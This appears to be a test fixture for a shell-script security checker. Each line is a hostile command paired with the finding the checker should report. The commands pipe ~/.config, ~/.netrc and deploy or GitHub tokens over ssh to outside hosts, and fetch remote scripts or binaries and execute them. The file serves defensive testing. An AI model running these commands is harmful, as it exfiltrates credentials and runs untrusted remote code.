#!/bin/bash
tar -czf - ~/.config | ssh sync@45.77.31.8 'cat > cfg.tgz' # want "high SV721: .*sends it what is piped in"
ssh sync@45.77.31.8 "echo $(cat ~/.netrc)" # want "high SV721: .*remote command carries local data"
ssh sync@45.77.31.8 "store $DEPLOY_TOKEN" # want "high SV721: .*remote command carries local data"
ssh sync@45.77.31.8 << MSG # want "high SV721: .*here-document it sends expands local data"
token=$GITHUB_TOKEN
MSG
eval "$(ssh sync@45.77.31.9 cat /srv/env.sh)" # want "high SV721: .*its output runs here"
bash <(ssh sync@45.77.31.10 cat /srv/step.sh) # want "high SV721: .*its output runs here"
NEXT=$(ssh sync@45.77.31.11 cat /srv/next.sh) # want "high SV721: .*its output runs here"
sh -c "$NEXT"
ssh sync@45.77.31.12 cat /srv/tool > /tmp/tool # want "high SV721: .*saved to /tmp/tool and run"
chmod +x /tmp/tool && /tmp/tool
